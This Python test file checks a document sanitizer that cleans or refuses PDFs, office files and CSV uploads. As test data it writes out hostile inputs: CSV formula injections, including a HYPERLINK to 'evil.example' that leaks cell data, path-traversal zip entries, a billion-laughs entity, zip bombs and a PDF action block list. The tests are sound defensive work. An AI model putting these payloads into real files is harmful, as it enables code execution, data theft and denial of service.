"""What a document is by its content, what of it is kept, and what is refused in which words. No database."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pikepdf
import pytest
from hypothesis import given
from hypothesis import settings as tries
from hypothesis import strategies as some

from upwell.files import apart, documents, names, office, pdf
from upwell.files.tests import papers

EVERY = ("pdf", "document", "spreadsheet")


def refusal(data: bytes, accept: tuple[str, ...] = EVERY) -> type[documents.CannotTake]:
    with pytest.raises(documents.CannotTake) as refused:
        documents.clean(data, accept)
    assert refused.type.__doc__
    return refused.type


def refusal_here(data: bytes) -> type[documents.CannotTake]:
    """In this process, where a test can change a limit."""
    with pytest.raises(documents.CannotTake) as refused:
        documents.read(data, documents.formats(EVERY))
    return refused.type


def outcome(data: bytes, accept: tuple[str, ...]) -> str:
    """The format it was taken as, or the words it was refused with. Whatever else is raised fails the test."""
    try:
        return documents.read(data, documents.formats(accept)).format
    except documents.CannotTake as refused:
        return refused.__doc__ or ""


class TestAPdf:
    def test_keeps_its_pages_and_says_how_many(self):
        kept = documents.clean(papers.pdf(3), ("pdf",))

        assert (kept.format, kept.pages) == ("pdf", 3)
        assert len(pikepdf.open(BytesIO(kept.data)).pages) == 3

    def test_can_do_nothing_any_more(self):
        armed = papers.pdf(2, papers.armed)
        assert b"EVIL" in papers.unfolded(armed)

        kept = papers.unfolded(documents.clean(armed, ("pdf",)).data)

        assert b"EVIL" not in kept
        for word in (b"JavaScript", b"/Launch", b"/AA", b"/OpenAction", b"/XFA", b"EmbeddedFile", b"SOMEBODY"):
            assert word not in kept, word
        assert b"https://good.example/" in kept

    def test_draws_nothing_from_another_file_and_does_nothing_that_is_not_known(self):
        armed = papers.pdf(1, papers.armed_otherwise)
        assert papers.unfolded(armed).count(b"EVIL") == 12

        kept = papers.unfolded(documents.clean(armed, ("pdf",)).data)

        assert b"EVIL" not in kept
        for word in (b"/Ref", b"/Filespec", b"GoToDp", b"FutureAction", b"/FFilter"):
            assert word not in kept, word

    def test_keeps_what_only_looks_like_it(self):
        kept = papers.unfolded(documents.clean(papers.pdf(1, papers.harmless), ("pdf",)).data)

        for word in (
            b"/S /P",
            b"/O /Layout",
            b"/S /Transparency",
            b"/GoTo",
            b"/F 4",
            b"/Helvetica",
            b"/Next",
            b"/Title",
        ):
            assert word in kept, word

    def test_the_same_file_is_written_the_same_way(self):
        made = papers.pdf(2)

        assert documents.clean(made, ("pdf",)).data == documents.clean(made, ("pdf",)).data

    def test_that_needs_a_password_is_refused(self):
        locked = papers.pdf(encryption=pikepdf.Encryption(owner="b", user="a"))

        assert refusal(locked) is documents.Locked

    def test_that_opens_without_one_is_kept_without_its_lock(self):
        kept = documents.clean(papers.pdf(encryption=pikepdf.Encryption(owner="b", user="")), ("pdf",))

        assert not pikepdf.open(BytesIO(kept.data)).is_encrypted

    @pytest.mark.parametrize("broken", [b"%PDF-1.7\nnothing", b"%PDF-", papers.pdf(1)[:150]])
    def test_that_is_broken_is_refused(self, broken):
        assert refusal(broken) is documents.Broken

    def test_with_too_many_pages_is_refused(self, monkeypatch):
        monkeypatch.setattr(documents, "MOST_PAGES", 2)

        with pytest.raises(documents.TooManyPages):
            pdf.clean(papers.pdf(3))

    def test_that_is_something_else_too_is_that_no_more(self):
        """A zip at the end of a PDF opens as either."""
        both = papers.pdf(1) + papers.docx()
        assert zipfile.is_zipfile(BytesIO(both))

        kept = documents.clean(both, ("pdf",))

        assert not zipfile.is_zipfile(BytesIO(kept.data))

    def test_made_to_unfold_without_end_ends_a_process_and_not_the_server(self, monkeypatch):
        def bomb(made: pikepdf.Pdf) -> None:
            made.Root.Deep = _nested(2_000)

        assert refusal(papers.pdf(1, bomb)) is documents.Broken

    def test_that_takes_too_long_is_refused(self, monkeypatch):
        monkeypatch.setattr(apart, "SECONDS", 0.0005)

        assert refusal(papers.pdf(1)) is documents.Broken


def _nested(depth: int) -> pikepdf.Object:
    one = pikepdf.Array([])
    for _ in range(depth):
        one = pikepdf.Array([one])
    return one


class TestAnOfficeFile:
    @pytest.mark.parametrize(
        ("made", "kind"),
        [
            (papers.docx(), "docx"),
            (papers.docx(papers.XLSX_TYPE), "xlsx"),
            (papers.odt(), "odt"),
            (papers.odt(kind="spreadsheet"), "ods"),
        ],
    )
    def test_is_known_by_its_parts_and_keeps_them(self, made, kind):
        kept = documents.clean(made, EVERY)

        assert kept.format == kind
        with zipfile.ZipFile(BytesIO(made)) as before, zipfile.ZipFile(BytesIO(kept.data)) as after:
            assert {name: before.read(name) for name in before.namelist()} == {
                name: after.read(name) for name in after.namelist()
            }

    @pytest.mark.parametrize(
        "made",
        [
            papers.docx(papers.MACRO_TYPE),
            papers.docx(word__vbaProject_dot_bin=b"macro"),
            papers.docx(word__activeX__activeX1_dot_xml=b"<x/>"),
            papers.docx(papers.XLSX_TYPE, xl__macrosheets__sheet1_dot_xml=b"<x/>"),
            papers.odt(Basic__Standard__Module1_dot_xml=b"<x/>"),
            papers.odt(b'<o xmlns:s="urn:s"><s:event-listener s:event-name="load"/></o>'),
        ],
    )
    def test_with_macros_is_refused(self, made):
        assert refusal(made) is documents.HasMacros

    @pytest.mark.parametrize(
        "made",
        [
            papers.docx(
                word___rels__settings_dot_xml_dot_rels=papers.relation("attachedTemplate", "https://a.example/t")
            ),
            papers.docx(word___rels__document_dot_xml_dot_rels=papers.relation("image", "file://server/share")),
            papers.docx(word__embeddings__object1_dot_bin=b"MZ"),
            papers.docx(papers.XLSX_TYPE, xl__externalLinks__externalLink1_dot_xml=b"<x/>"),
            papers.odt(b'<o xmlns:x="urn:x"><image x:href="https://a.example/pixel.png"/></o>'),
            papers.odt(b'<o xmlns:x="urn:x"><dde-source/></o>'),
        ],
    )
    def test_that_fetches_or_carries_other_files_is_refused(self, made):
        assert refusal(made) is documents.HasOutside

    def test_may_have_links_that_a_person_presses(self):
        link = papers.relation("hyperlink", "https://a.example/")

        assert documents.clean(papers.docx(word___rels__document_dot_xml_dot_rels=link), EVERY).format == "docx"
        assert documents.clean(papers.odt(b'<o xmlns:x="urn:x"><a x:href="https://a.example/"/></o>'), EVERY)

    def test_with_a_password_is_refused(self):
        manifest = b"<manifest><encryption-data/></manifest>"
        parts = {"mimetype": documents.MEDIA_TYPES["odt"].encode(), "META-INF/manifest.xml": manifest}

        assert refusal(papers.zipped(parts)) is documents.Locked

    def test_that_unfolds_too_far_is_refused_before_it_does(self, monkeypatch):
        monkeypatch.setattr(office, "MOST_UNFOLDED", 1_000_000)
        bomb = papers.docx(word__media__a_dot_xml=b"0" * 2_000_000)
        assert len(bomb) < 10_000

        assert refusal_here(bomb) is documents.Unfolds

    def test_of_very_many_elements_is_refused_and_never_held(self, monkeypatch):
        """The real size, and less memory than they would take: 95 KB that would be 24 million elements."""
        monkeypatch.setattr(apart, "MEMORY", 300_000_000)
        bomb = papers.odt(b"<a>" + b"<a/>" * 12_000_000 + b"</a>")
        assert len(bomb) < 100_000

        assert refusal(bomb) is documents.Unfolds

    @pytest.mark.parametrize(("limit", "most"), [("MOST_ELEMENTS", 10), ("MOST_XML", 50)])
    def test_is_counted_over_all_its_parts(self, monkeypatch, limit, most):
        """Of the words of one part and of its manifest, neither is too much alone."""
        made = papers.odt(b"<a>" + b"<a/>" * 9 + b"</a>")
        assert office.clean(made, {"odt"}).format == "odt"
        monkeypatch.setattr(office, limit, most)

        assert refusal_here(made) is documents.Unfolds

    def test_with_an_element_longer_than_a_bite_is_refused(self):
        names_of = b" ".join(b'a%d=""' % number for number in range(300_000))

        assert refusal_here(papers.odt(b"<a " + names_of + b"/>")) is documents.Unfolds
        assert office.clean(papers.odt(b"<a>" + b"long words " * 300_000 + b"</a>"), {"odt"}).format == "odt"

    def test_that_lies_about_its_size_is_refused_too(self, monkeypatch):
        monkeypatch.setattr(office, "MOST_UNFOLDED", 1_000_000)
        honest = papers.docx(word__a=b"0" * 2_000_000)
        lying = honest.replace((2_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))

        assert refusal_here(lying) in {documents.Unfolds, documents.Broken}

    @pytest.mark.parametrize("name", ["../../evil", "/etc/evil", "a\\b", "c:evil"])
    def test_whose_parts_lead_out_is_refused(self, name):
        parts = {"mimetype": documents.MEDIA_TYPES["odt"].encode(), name: b"x"}

        assert refusal(papers.zipped(parts)) is documents.Broken

    def test_that_declares_entities_is_refused(self):
        laughs = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'

        assert refusal(papers.odt(laughs)) is documents.Broken

    @pytest.mark.parametrize(
        "data", [papers.zipped({"a.txt": b"a"}), papers.zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"y"})]
    )
    def test_any_other_zip_is_another_kind(self, data):
        assert refusal(data) is documents.OtherKind

    def test_with_a_program_behind_it_is_kept_without_it(self):
        kept = documents.clean(papers.docx() + b"MZ a program", EVERY)

        assert b"MZ a program" not in kept.data

    def test_an_old_one_is_to_be_saved_as_pdf(self):
        assert refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600) is documents.OldOffice
        assert refusal(b"{\\rtf1 text}") is documents.OldOffice


class TestAText:
    def test_is_kept_as_utf_8(self):
        assert (
            documents.clean("A café\r\nby the river".encode("cp1252"), ("document",)).data
            == b"A caf\xc3\xa9\nby the river"
        )
        assert documents.clean("größer".encode("utf-16"), ("document",)).data.decode() == "größer"

    def test_with_the_same_columns_is_a_table(self):
        assert documents.clean(b"Unit;Rent\n1;900\n", EVERY).format == "csv"
        assert documents.clean(b"Dear city,\nthis is all.\n", EVERY).format == "txt"

    @pytest.mark.parametrize("cell", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"])
    def test_a_table_with_formulas_is_refused(self, cell):
        assert refusal(f'Unit,Rent\n1,"{cell}"\n'.encode(), ("spreadsheet",)) is documents.HasFormulas

    @pytest.mark.parametrize(
        "lines",
        [
            'a;b;c\nx,=HYPERLINK("http://evil.example/?"&A1),y;2;3\n',
            "a,b\nx\t=1+1,2\n",
            "a,b\nx|=1+1,2\n",
            "a,b\n=1+1,2\n".replace("=", "＝"),
            'a,b\n"x;y","z;＋SUM(A1)"\n',
            'a;b\n";"' + "x" * 140_000 + '",=1+1;c\n',
            "a,b\nx, \t@SUM(A1)\n",
        ],
    )
    def test_a_table_is_looked_at_with_every_mark_a_program_may_part_it_by(self, lines):
        assert refusal(lines.encode(), ("spreadsheet",)) is documents.HasFormulas

    def test_words_within_a_cell_are_no_formulas(self):
        kept = documents.clean(b'Item,Note\n1,"Sofa, = large"\n2,a=b\n3,me@example.org\n', ("spreadsheet",))

        assert kept.format == "csv"

    def test_a_long_one_is_looked_at_as_well(self):
        long = b"Item,Note\n" + b"1,sofa\n" * 200_000
        assert len(long) > documents.LONG_TEXT

        assert documents.clean(long, ("spreadsheet",)).data == long
        assert refusal(long + b"2,=1+1\n", ("spreadsheet",)) is documents.HasFormulas

    def test_numbers_with_signs_are_no_formulas(self):
        assert documents.clean(b"Change,Phone\n-5,+1 408 555 0100\n", ("spreadsheet",)).format == "csv"

    @pytest.mark.parametrize(
        "data",
        [b"<html><script>alert(1)</script>", b"#!/bin/sh\nrm", b"MZ\x90\0\x03", b"\0\0\0\0", b"a\0b", b"  <?php"],
    )
    def test_what_a_program_would_carry_out_is_no_text(self, data):
        assert refusal(data) is documents.OtherKind


def test_a_file_that_takes_more_memory_than_it_may_ends_a_process_and_not_the_server(monkeypatch):
    assert documents.clean(papers.odt(), EVERY).format == "odt"
    monkeypatch.setattr(apart, "MEMORY", 1_000_000)

    assert refusal(papers.odt()) is documents.Broken


def test_what_is_not_asked_for_is_refused():
    assert refusal(papers.pdf(1), ("document",)) is documents.OtherKind
    assert refusal(papers.docx(), ("spreadsheet",)) is documents.OtherKind
    assert refusal(b"words", ("pdf",)) is documents.OtherKind
    assert refusal(b"\0\0\0\x18ftypheic") is documents.PhotoFormat


def test_empty_and_too_large_have_words_of_their_own():
    assert refusal(b"") is documents.Empty
    assert refusal(b"%PDF-" + b"0" * documents.MOST_BYTES) is documents.TooLarge


@tries(max_examples=150)
@given(
    some.binary(max_size=300)
    | some.tuples(
        some.sampled_from([b"PK\x03\x04", b"\xd0\xcf\x11\xe0", b"\xff\xfe", b"=", b"a,b\n"]), some.binary(max_size=200)
    ).map(b"".join)
)
def test_any_bytes_are_a_document_or_refused_in_words(data):
    assert outcome(data, ("document", "spreadsheet"))


@tries(max_examples=60)
@given(some.data())
def test_a_damaged_office_file_is_taken_or_refused_in_words(data):
    made = bytearray(papers.docx())
    for _ in range(data.draw(some.integers(1, 8))):
        made[data.draw(some.integers(4, len(made) - 1))] = data.draw(some.integers(0, 255))
    assert outcome(bytes(made), EVERY)


@given(some.text(max_size=300), some.sampled_from(sorted(documents.MEDIA_TYPES)))
def test_any_name_is_safe_to_print(given_name, kind):
    shown = names.shown(given_name, kind)

    assert 1 < len(shown) <= names.LONGEST
    assert not set(shown) & set('/\\<>:"|?*\n\r\0\u202e')
    assert shown == names.shown(shown, kind)


@pytest.mark.parametrize(
    ("told", "shown"),
    [
        ("Lease.PDF", "Lease.pdf"),
        ("C:\\Users\\me\\plan v2.pdf.exe", "plan v2.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("inv\u202efdp.exe", "inv fdp.pdf"),
        ("", "document.pdf"),
        ("...", "document.pdf"),
    ],
)
def test_a_name_is_shown_with_the_ending_its_content_has(told, shown):
    assert names.shown(told, "pdf") == shown
